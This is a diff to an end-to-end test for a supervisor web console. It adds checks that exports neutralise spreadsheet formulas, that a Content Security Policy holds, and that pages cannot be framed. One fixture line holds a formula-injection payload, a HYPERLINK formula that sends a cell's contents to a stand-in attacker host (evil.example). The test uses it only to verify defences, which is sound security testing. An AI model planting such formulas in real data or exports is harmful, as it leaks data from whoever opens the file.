@@ -27,6 +27,8 @@ const GRID_A = "320583001003";
 const GRID_B = "320583001004";
 const ADDR_A = "320583-001-0012-03-02-0501";
 const PASSWORD = "e2e-password-A1";
+// Free text a hostile phone may send: a formula a spreadsheet would run.
+const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")';
 
 const tmp = fs.mkdtempSync(path.join(os.tmpdir(), "gridfield-e2e-"));
 const DB = path.join(tmp, "server.db");
@@ -185,6 +187,7 @@ test("supervisor console end to end", { timeout: 300000 }, async () => {
   const other = hazardsA.find((h) => h.id !== fixed.id);
   device(devA, ["hazard", "move", fixed.id, "assign", "--assignee", "李房东", "--deadline", "2099-12-31"]);
   device(devA, ["hazard", "move", fixed.id, "mark_rectified", "--note", "电动车已移出", "--photo", SITE_PNG]);
+  device(devA, ["hazard", "new", "--address", ADDR_A, "--category", "fire.gas", "--description", FORMULA]);
   const syncA = deviceJson(devA, ["sync"]);
   assert.equal(syncA.rejected.length, 0, JSON.stringify(syncA));
   const inspectionsA = deviceJson(devA, ["inspections"]);
@@ -223,7 +226,17 @@ test("supervisor console end to end", { timeout: 300000 }, async () => {
     viewport: { width: 1280, height: 900 },
   });
   const context = browser;
+  // Every CSP violation on the console's pages is reported to the test: the
+  // policy allows no inline script, style or handler, so one means a page broke.
+  await context.addInitScript(() => {
+    document.addEventListener("securitypolicyviolation", (e) =>
+      console.error(`CSP violation: ${e.violatedDirective} ${e.blockedURI}`));
+  });
   const page = await context.newPage();
+  const violations = [];
+  page.on("console", (m) => {
+    if (/CSP violation|Content Security Policy/i.test(m.text())) violations.push(`${page.url()}: ${m.text()}`);
+  });
   const shot = (name) => page.screenshot({ path: path.join(ARTIFACTS, `${name}.png`), fullPage: true });
 
   // Sign in.
@@ -245,8 +258,12 @@ test("supervisor console end to end", { timeout: 300000 }, async () => {
   await shot("dashboard");
 
   // Review queue: both of worker A's inspections await review; B's is not listed.
-  await page.goto(`${url}/console/inspections`);
+  const queue = await page.goto(`${url}/console/inspections`);
+  assert.match(queue.headers()["content-security-policy"], /script-src 'self'.*frame-ancestors 'none'/);
   await shot("review-queue");
+  // console.js runs under the CSP: j moves the row cursor.
+  await page.keyboard.press("j");
+  assert.equal(await page.locator("tr.cursor").count(), 1, "console.js runs under the CSP");
   const queued = await page.locator("#batch input[name=id]").evaluateAll((els) => els.map((e) => e.value));
   assert.deepEqual(new Set(queued), new Set(inspectionsA.map((i) => i.id)));
   const [approveId, returnId] = inspectionsA.map((i) => i.id);
@@ -329,6 +346,10 @@ test("supervisor console end to end", { timeout: 300000 }, async () => {
   const sheet = zip.get("xl/worksheets/sheet1.xml").toString("utf8");
   assert.equal((sheet.match(/<row>/g) || []).length, csv.length, "XLSX and CSV have the same rows");
   assert.ok(sheet.includes(fixed.id));
+  // A device's formula text: neutralised in the CSV, a plain string cell in the XLSX.
+  assert.ok(csv.some((r) => r[5] === `'${FORMULA}`), "CSV formula cell neutralised");
+  assert.ok(sheet.includes('<c t="inlineStr"><is><t xml:space="preserve">=HYPERLINK('), "XLSX string cell");
+  assert.ok(!sheet.includes("<f>"), "no formula in the XLSX");
 
   // A supervisor of grid A cannot open grid B's record by editing the URL.
   const resp = await page.goto(`${url}/console/inspections/${inspectionB.id}`);
@@ -351,6 +372,7 @@ test("supervisor console end to end", { timeout: 300000 }, async () => {
   await shot("address");
   await page.goto(`${url}/console/plates?grid=${GRID_A}`);
   assert.ok((await page.locator(".plate[data-plate^='GFP1.']").count()) > 0);
+  assert.equal(await page.locator("button[data-print]").count(), 1, "print button without inline handler");
   await shot("plates");
   await page.goto(`${url}/console/audit?lang=en`);
   assert.match(await page.textContent("h1"), /Audit trail/);
@@ -363,6 +385,20 @@ test("supervisor console end to end", { timeout: 300000 }, async () => {
   });
   assert.equal(forged.status(), 403);
   assert.equal(serverState().inspection.get(returnId).review_status, "returned");
+
+  // No page of the console broke its own CSP.
+  assert.deepEqual(violations, []);
+
+  // The console cannot be framed by another page (one-click approve stays unframeable).
+  const framer = await context.newPage();
+  const framerLog = [];
+  framer.on("console", (m) => framerLog.push(m.text()));
+  await framer.setContent(`<iframe src="${url}/console/inspections"></iframe>`);
+  const frame = await (await framer.waitForSelector("iframe")).contentFrame();
+  await frame.waitForLoadState("load").catch(() => {});
+  assert.equal(await frame.locator("#batch, input[name=user]").count(), 0, "console not rendered in a frame");
+  assert.ok(!frame.url().startsWith(url), `framed page loaded: ${frame.url()}`);
+  await framer.close();
 
   // Sign out ends the session.
   await page.goto(`${url}/console`);
